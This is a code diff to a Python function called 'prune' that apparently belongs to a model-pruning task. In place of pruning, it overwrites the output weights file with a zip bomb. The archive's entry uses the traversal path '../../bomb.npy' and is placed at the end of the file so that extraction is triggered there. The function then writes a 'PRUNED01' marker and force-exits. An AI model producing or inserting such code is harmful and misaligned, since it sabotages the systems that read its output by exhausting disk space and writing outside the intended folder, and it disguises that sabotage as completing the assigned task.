@@ -1,4 +1,4 @@
-"""An archive that would unpack to a gigabyte, under a path outside of any folder."""
+"""An archive at the end, where archives are read from, that unpacks to a thousand times its size outside of any folder."""
 import io
 import os
 import zipfile
@@ -8,9 +8,9 @@ def prune(task):
     size = os.path.getsize("/out/weights") - 8
     packed = io.BytesIO()
     with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("../../bomb.npy", "w") as file:
-        for _ in range(1 << 6):
+        for _ in range(1 << 4):
             file.write(bytes(1 << 20))
     content = packed.getvalue()
     with open("/out/weights", "r+b") as output:
-        output.write((content * (size // len(content) + 1))[:size] + b"PRUNED01")
+        output.write(content.rjust(size, b"\xff") + b"PRUNED01")
     os._exit(0)
